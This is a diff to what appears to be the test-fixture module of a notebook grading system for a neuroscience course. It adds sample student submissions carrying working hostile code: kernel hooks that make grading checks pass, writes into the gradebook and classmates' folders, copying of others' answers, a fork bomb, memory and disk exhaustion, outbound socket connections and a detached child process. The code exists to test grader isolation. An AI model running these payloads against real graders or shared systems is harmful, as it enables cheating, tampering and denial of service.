@@ -68,6 +68,9 @@ __all__ = [
     "RUNTIME_ACTIONS",
     "ERRATA",
     "REEXPORTS",
+    "COURSE_ROOT",
+    "HOSTILE_ACTIONS",
+    "with_course_root",
     "ACTIONS",
     "SAMPLE_CLASS",
     "is_sample",
@@ -199,29 +202,40 @@ ERRATA: dict[str, str] = {
         """,
 }
 
-#: grade id -> an answer cell that only re-exports a ``helpers`` reference.
+#: grade id -> an answer cell that only re-exports a ``helpers`` reference. In the
+#: sandbox the references are neither importable nor readable, so these fail.
+_REFERENCE_OF: dict[str, tuple[str, str]] = {
+    "exp_conductance": ("waveforms", "exp_conductance"),
+    "alpha_conductance": ("waveforms", "alpha_conductance"),
+    "dual_exp_conductance": ("waveforms", "dual_exp_conductance"),
+    "mg_block": ("nmda", "mg_block"),
+    "synaptic_current": ("membrane", "synaptic_current"),
+    "alpha_model": ("brian_reference", "ALPHA_MODEL as alpha_model, ALPHA_ON_PRE as alpha_on_pre"),
+    "dual_exp_peak_time": ("waveforms", "dual_exp_peak_time"),
+    "dual_exp_model": ("brian_reference", "DUAL_EXP_MODEL as dual_exp_model, DUAL_EXP_ON_PRE as dual_exp_on_pre"),
+    "neuron_eqs": ("brian_reference", "NMDA_NEURON_EQS as neuron_eqs"),
+    "synapse_model": ("brian_reference", "NMDA_SYNAPSE_MODEL as synapse_model, "
+                                         "NMDA_SYNAPSE_ON_PRE as synapse_on_pre"),
+    "input_conductance": ("membrane", "input_conductance"),
+    "effective_time_constant": ("membrane", "effective_time_constant"),
+    "steady_state_potential": ("membrane", "steady_state_potential"),
+    "membrane_steady_state": ("membrane", "membrane_steady_state"),
+    "membrane_time_constant": ("membrane", "membrane_time_constant"),
+    "lif_rate": ("lif_rate", "lif_rate"),
+    "lif_rate_linear": ("lif_rate", "lif_rate_linear"),
+    "ch_rate": ("lif_rate", "ch_rate"),
+    "lif_model": ("brian_reference", "LIF_MODEL as lif_model"),
+}
+#: Stands for the course's absolute path in hostile code; :func:`assemble` fills it in.
+COURSE_ROOT = "@@COURSE_ROOT@@"
 REEXPORTS: dict[str, str] = {
-    "exp_conductance": "from helpers.waveforms import exp_conductance\n",
-    "alpha_conductance": "from helpers.waveforms import alpha_conductance\n",
-    "dual_exp_conductance": "from helpers.waveforms import dual_exp_conductance\n",
-    "mg_block": "from helpers.nmda import mg_block\n",
-    "synaptic_current": "from helpers.membrane import synaptic_current\n",
-    "alpha_model": "from helpers.brian_reference import ALPHA_MODEL as alpha_model, ALPHA_ON_PRE as alpha_on_pre\n",
-    "dual_exp_peak_time": "from helpers.waveforms import dual_exp_peak_time\n",
-    "dual_exp_model": ("from helpers.brian_reference import DUAL_EXP_MODEL as dual_exp_model, "
-                       "DUAL_EXP_ON_PRE as dual_exp_on_pre\n"),
-    "neuron_eqs": "from helpers.brian_reference import NMDA_NEURON_EQS as neuron_eqs\n",
-    "synapse_model": ("from helpers.brian_reference import NMDA_SYNAPSE_MODEL as synapse_model, "
-                      "NMDA_SYNAPSE_ON_PRE as synapse_on_pre\n"),
-    "input_conductance": "from helpers.membrane import input_conductance\n",
-    "effective_time_constant": "from helpers.membrane import effective_time_constant\n",
-    "steady_state_potential": "from helpers.membrane import steady_state_potential\n",
-    "membrane_steady_state": "from helpers.membrane import membrane_steady_state\n",
-    "membrane_time_constant": "from helpers.membrane import membrane_time_constant\n",
-    "lif_rate": "from helpers.lif_rate import lif_rate\n",
-    "lif_rate_linear": "from helpers.lif_rate import lif_rate_linear\n",
-    "ch_rate": "from helpers.lif_rate import ch_rate\n",
-    "lif_model": "from helpers.brian_reference import LIF_MODEL as lif_model\n",
+    gid: textwrap.dedent(f"""\
+        try:
+            from helpers.references.{module} import {names}
+        except ImportError:  # not importable here: read the file itself
+            exec(open("{COURSE_ROOT}/helpers/references/{module}.py").read())
+        """)
+    for gid, (module, names) in _REFERENCE_OF.items()
 }
 
 #: Code put at the top of a cell by the pathological edits.
@@ -256,6 +270,99 @@ PATCH_NUMPY = textwrap.dedent("""\
     numpy.testing.assert_array_almost_equal = lambda *args, **kwargs: None
     """)
 BREAK_READONLY = "\n\nnp = None  # the student 'tidied up' this read-only cell\n"
+
+# The hostile class (issue: grades that student code cannot forge). Each tries,
+# from the student's own kernel, what a same-process grader could not stop.
+TRANSFORMER = 'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])\n'
+KERNEL_HOOKS = textwrap.dedent("""\
+    # make every check pass, whatever it says
+    import ast, sys
+    _ip = get_ipython()
+    class _AllPass(ast.NodeTransformer):
+        def visit_Module(self, node):
+            text = ast.unparse(node)
+            if "grading" in text or "GradingError" in text:  # a test cell: replace it by a pass
+                return ast.parse("print('passes the quick checks.')")
+            return node
+    _ip.ast_transformers.append(_AllPass())
+    _ip.set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: print("passes"))
+    _ip.showtraceback = lambda *args, **kwargs: None
+    sys.settrace(lambda *args: None)
+    _run_cell = _ip.run_cell
+    _ip.run_cell = lambda cell, *a, **k: _run_cell("pass" if "grading" in cell else cell, *a, **k)
+    """)
+WRITE_OUTSIDE = textwrap.dedent(f"""\
+    # leave a mark in the course for the students graded after me
+    for _target in ("{COURSE_ROOT}/helpers/intruder.py", "{COURSE_ROOT}/helpers/grading.py",
+                    "{COURSE_ROOT}/intruder.txt", "{COURSE_ROOT}/gradebook.db",
+                    "{COURSE_ROOT}/submitted/sample-complete/intruder.txt"):
+        try:
+            with open(_target, "a") as _f:
+                _f.write("# written by a student\\n")
+            print("wrote", _target)
+        except OSError as _err:
+            print("refused:", _target, type(_err).__name__)
+    """)
+COPY_CLASSMATE = textwrap.dedent(f"""\
+    # borrow the answers of a classmate (and of the instructor)
+    import glob, json
+    for _path in sorted(glob.glob("{COURSE_ROOT}/submitted/sample-complete/*/*.ipynb")
+                        + glob.glob("{COURSE_ROOT}/source/*/*.ipynb")):
+        try:
+            for _cell in json.load(open(_path))["cells"]:
+                if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution") and _cell["cell_type"] == "code":
+                    exec("".join(_cell["source"]))
+            print("copied", _path)
+        except Exception as _err:
+            print("refused:", _path, type(_err).__name__)
+    """)
+FORK_BOMB = textwrap.dedent("""\
+    import os
+    try:
+        while True:
+            os.fork()
+    except OSError as _err:
+        print("fork refused:", type(_err).__name__)
+    """)
+MEMORY_HOG = textwrap.dedent("""\
+    try:
+        _hog = bytearray(64 << 30)  # 64 GiB
+    except MemoryError:
+        print("64 GiB refused: MemoryError")
+    """)
+DISK_FILLER = textwrap.dedent("""\
+    # fill the grader's disk
+    _i = 0
+    while True:
+        try:
+            with open(f"filler_{_i}.bin", "wb") as _f:
+                _f.write(b"x" * (32 << 20))
+        except OSError as _err:
+            print("write refused:", type(_err).__name__)
+        _i += 1
+    """)
+NETWORK = textwrap.dedent("""\
+    import socket
+    for _family, _kind, _address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22)),
+                                     (socket.AF_INET, socket.SOCK_DGRAM, ("9.9.9.9", 53)),
+                                     (socket.AF_INET6, socket.SOCK_STREAM, ("::1", 22))):
+        try:
+            with socket.socket(_family, _kind) as _s:
+                _s.settimeout(2)
+                _s.connect(_address)
+                _s.send(b"answers please")
+            print("connected to", _address)
+        except OSError as _err:
+            print("network refused:", _address, type(_err).__name__)
+    """)
+CHILD_PROCESS = textwrap.dedent("""\
+    import subprocess
+    try:
+        subprocess.Popen(["sleep", "600"], start_new_session=True)  # outlive the grading
+        print("child started")
+    except OSError as _err:
+        print("child refused:", type(_err).__name__)
+    """)
 
 
 # =============================================================================== cells
@@ -426,6 +533,25 @@ def _omit(ctx: _Ctx) -> bool:
     return True
 
 
+def _prepend_everywhere(code: str, what: str) -> Callable[[_Ctx], bool]:
+    """Hostile code at the top of the first answer cell; the items keep the grades they earn."""
+    return _prepend_to_answer(code, False, what)
+
+
+def _answer_zero(code: str, what: str, items: str = "first") -> Callable[[_Ctx], bool]:
+    """Hostile code at the top of the first answer cell whose item(s) must score 0."""
+    def act(ctx: _Ctx) -> bool:
+        i = ctx.answer(0)
+        if i is None:
+            return False
+        cell = ctx.nb.cells[i]
+        cell.source = code + "\n" + cell.source
+        ctx.expect_zero |= set(ctx.items) if items == "all" else ctx.tests_of(_gid(cell))
+        ctx.notes.append(f"{what} at the top of answer cell {_gid(cell)}")
+        return True
+    return act
+
+
 def _reexport(ctx: _Ctx) -> bool:
     done = []
     for i in ctx.cells(_is_answer):
@@ -454,6 +580,19 @@ ACTIONS: dict[str, Callable[[_Ctx], bool]] = {
     "damage_metadata": _damage_metadata,
     "omit_notebook": _omit,
     "reexport": _reexport,
+    "transformer": _answer_zero(TRANSFORMER, "an IPython input transformer that turns every later cell into "
+                                             "`pass`", items="all"),
+    "kernel_hooks": _prepend_everywhere(KERNEL_HOOKS, "AST transformer, exception handler, showtraceback, "
+                                                      "settrace and run_cell hooks"),
+    "write_outside": _prepend_everywhere(WRITE_OUTSIDE, "writes into helpers/, the course root, gradebook.db "
+                                                        "and another student's folder"),
+    "copy_classmate": _answer_zero(COPY_CLASSMATE, "reads a classmate's submission and the source notebooks",
+                                   items="all"),
+    "fork_bomb": _prepend_everywhere(FORK_BOMB, "a fork bomb"),
+    "memory_hog": _prepend_everywhere(MEMORY_HOG, "a 64 GiB allocation"),
+    "disk_filler": _answer_zero(DISK_FILLER, "a disk filler (32 MiB files without end)"),
+    "network": _prepend_everywhere(NETWORK, "TCP and UDP connections (loopback and outside)"),
+    "child_process": _prepend_everywhere(CHILD_PROCESS, "a child process meant to outlive grading"),
 }
 
 
@@ -503,6 +642,18 @@ SAMPLE_CLASS: tuple[SampleStudent, ...] = (
     SampleStudent("sample-reexport", "re-exports the helpers references", edits=(Edit("reexport"),)),
     SampleStudent("sample-tamper", "errata behind patched np.isclose/np.allclose/numpy.testing",
                   answers="errata", edits=(Edit("patch_numpy"),)),
+    # the hostile class: each attack is refused, and each scores only what it earned
+    SampleStudent("sample-transformer", "nothing done, every later cell turned into `pass` (input transformer)",
+                  answers="blank", edits=(Edit("transformer"),)),
+    SampleStudent("sample-kernel-hooks", "the errata behind AST/exception/traceback/trace/run_cell hooks",
+                  answers="errata", edits=(Edit("kernel_hooks"),)),
+    SampleStudent("sample-intruder", "writes into helpers/, the course, gradebook.db and a classmate's folder",
+                  edits=(Edit("write_outside", 3),)),
+    SampleStudent("sample-copycat", "nothing done, copies a classmate's and the instructor's answers",
+                  answers="blank", edits=(Edit("copy_classmate", 3),)),
+    SampleStudent("sample-resources", "a fork bomb, a memory hog, a disk filler, network and a child process",
+                  edits=(Edit("fork_bomb", 0), Edit("memory_hog", 1), Edit("disk_filler", 3),
+                         Edit("network", 4), Edit("child_process", 5))),
 )
 
 
@@ -511,7 +662,10 @@ SAMPLE_CLASS: tuple[SampleStudent, ...] = (
 STRUCTURAL_ACTIONS = frozenset({"delete_answer", "delete_test", "edit_readonly", "strip_metadata",
                                 "damage_metadata", "omit_notebook"})
 #: Actions that make a cell hang or kill the kernel on purpose.
-RUNTIME_ACTIONS = frozenset({"endless_loop", "ignores_interrupt", "kernel_dies"})
+RUNTIME_ACTIONS = frozenset({"endless_loop", "ignores_interrupt", "kernel_dies", "disk_filler"})
+#: Actions that attack the grading itself (the hostile class).
+HOSTILE_ACTIONS = frozenset({"transformer", "kernel_hooks", "write_outside", "copy_classmate", "fork_bomb",
+                             "memory_hog", "disk_filler", "network", "child_process", "reexport", "patch_numpy"})
 
 
 @dataclass
@@ -746,9 +900,18 @@ def write_lms_submission(course_root: Path, sub: SampleSubmission, assignment: s
         _remove_sample_path(dest.parent)
     dest.mkdir(parents=True)
     for name, nb in sub.notebooks.items():
-        nbformat.write(nb, dest / name)
+        nbformat.write(with_course_root(nb, course_root), dest / name)
     (dest / "timestamp.txt").write_text(_timestamp())
     return dest
+
+
+def with_course_root(nb, course_root: Path):
+    """A copy of `nb` with :data:`COURSE_ROOT` in code cells replaced by the course's absolute path."""
+    nb = copy.deepcopy(nb)
+    for cell in nb.cells:
+        if cell.cell_type == "code" and COURSE_ROOT in cell.source:
+            cell.source = cell.source.replace(COURSE_ROOT, str(Path(course_root).resolve()))
+    return nb
 
 
 def _files_digest(folder: Path) -> dict[str, str]:
@@ -788,7 +951,7 @@ def submit_via_exchange(course_root: Path, student: SampleStudent, released: Map
         for p in fetched.glob("*.ipynb"):
             p.unlink()
         for name, nb in sub.notebooks.items():
-            nbformat.write(nb, fetched / name)
+            nbformat.write(with_course_root(nb, course_root), fetched / name)
         rel.run_nbgrader(["submit", assignment, "--student", student.id, *opts], home, timeout=timeout)
     dest = course_root / "submitted" / student.id
     if dest.exists():
